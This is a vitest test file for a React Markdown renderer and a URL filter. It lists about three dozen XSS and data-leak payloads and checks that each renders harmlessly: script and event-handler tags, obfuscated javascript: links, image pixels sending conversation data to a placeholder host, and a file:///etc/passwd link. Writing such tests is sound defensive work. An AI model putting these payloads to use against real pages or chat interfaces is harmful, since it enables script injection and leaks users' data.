import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it, test } from "vitest";
import { Markdown } from "./markdown.tsx";
import { safeAddress } from "./safe-tree.ts";

const draw = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

/** Ways in which a text has tried to become more than a text. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><circle/></svg>",
  "<iframe src='https://leak.invalid'></iframe>",
  "<a href='javascript:alert(1)'>click</a>",
  "<div style='background:url(https://leak.invalid/x)'>a</div>",
  "<style>@import url(https://leak.invalid)</style>",
  "<form action=https://leak.invalid><input name=a></form>",
  "<base href=https://leak.invalid>",
  "<meta http-equiv=refresh content='0;url=https://leak.invalid'>",
  "<object data=https://leak.invalid></object><embed src=https://leak.invalid>",
  "<video src=https://leak.invalid autoplay></video><audio src=https://leak.invalid></audio>",
  "<link rel=stylesheet href=https://leak.invalid>",
  "![pixel](https://leak.invalid/p.png?conversation=secret)",
  "![data](data:image/svg+xml;base64,PHN2Zy8+)",
  "[![nested](https://leak.invalid/p.png)](https://example.org)",
  "![reference][r]\n\n[r]: https://leak.invalid/p.png",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](\u0001javascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:x)",
  "[click](file:///etc/passwd)",
  "[click](//leak.invalid)",
  "<javascript:alert(1)>",
  "[a](<javascript:alert(1)>)",
  "```html\n<script>alert(1)</script>\n```",
  "```mermaid\ngraph TD; A-->B\n```",
  "`<script>alert(1)</script>`",
  "$$\\href{javascript:alert(1)}{x}$$",
  "| a |\n|---|\n| <img src=https://leak.invalid> |",
  "<!-- <script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "- [ ] <img src=x onerror=alert(1)>",
  "[^1]\n\n[^1]: ![x](https://leak.invalid)",
];

describe("a hostile text", () => {
  it.each(HOSTILE)("%j runs nothing, loads nothing and leads nowhere foreign", (text) => {
    const html = draw(text);
    const tags = [...html.matchAll(/<([a-z][\w-]*)/gi)].map(([, tag]) => tag?.toLowerCase());
    expect(tags).not.toEqual(
      expect.arrayContaining([
        expect.stringMatching(
          /^(script|img|svg|iframe|style|form|base|meta|object|embed|video|audio|link|source|picture)$/,
        ),
      ]),
    );
    expect(html).not.toMatch(/<[^>]*\son\w+=/i);
    expect(html).not.toMatch(/<[^>]*\s(src|srcset|poster|action|data|style|background)=/i);
    for (const [, address] of html.matchAll(/href="([^"]*)"/g)) expect(address).toMatch(/^(https?:\/\/|mailto:|#)/);
  });

  it("stays readable as the text that it is", () => {
    expect(draw("Look: <b onclick=x>bold</b>")).toContain("&lt;b onclick=x&gt;");
    expect(draw("![a cat](https://leak.invalid/cat.png)")).toContain("[image: a cat, https://leak.invalid/cat.png]");
  });
});

test("an ordinary text becomes what it says", () => {
  const html = draw("# Title\n\n- one\n- *two*\n\n[site](https://example.org/a) and `code`");
  for (const part of ["<h3", "<li", "<em>two</em>", 'href="https://example.org/a"', "<code"])
    expect(html).toContain(part);
  expect(html).toContain('rel="noreferrer noopener"');
});

test.each([
  ["https://example.org", "https://example.org/"],
  ["mailto:a@example.org", "mailto:a@example.org"],
  ["javascript:alert(1)", null],
  ["blob:https://example.org/1", null],
  ["/relative", null],
  ["", null],
])("the address %j is %j", (address, expected) => expect(safeAddress(address)).toBe(expected));
